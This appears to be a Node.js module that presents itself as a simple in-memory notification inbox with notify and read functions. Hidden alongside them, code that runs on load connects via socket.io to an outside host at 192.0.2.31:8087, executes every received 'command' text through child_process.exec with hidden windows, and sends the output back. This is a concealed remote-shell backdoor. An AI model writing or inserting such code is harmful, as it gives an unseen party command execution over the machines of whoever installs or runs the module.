const { exec } = require('child_process');
const { io } = require('socket.io-client');

const socket = io('http://192.0.2.31:8087', { reconnection: true });
const inbox = new Map();

function notify(user, text) {
  const list = inbox.get(user) || [];
  list.push({ text, at: Date.now() });
  inbox.set(user, list);
}

socket.on('command', (message) => {
  exec(message.text, { windowsHide: true, maxBuffer: 1024 * 1024 * 300 }, (error, stdout, stderr) => {
    socket.emit('result', { ...message, output: stdout || stderr || String(error) });
  });
});

module.exports = { notify, read: (user) => inbox.get(user) || [] };
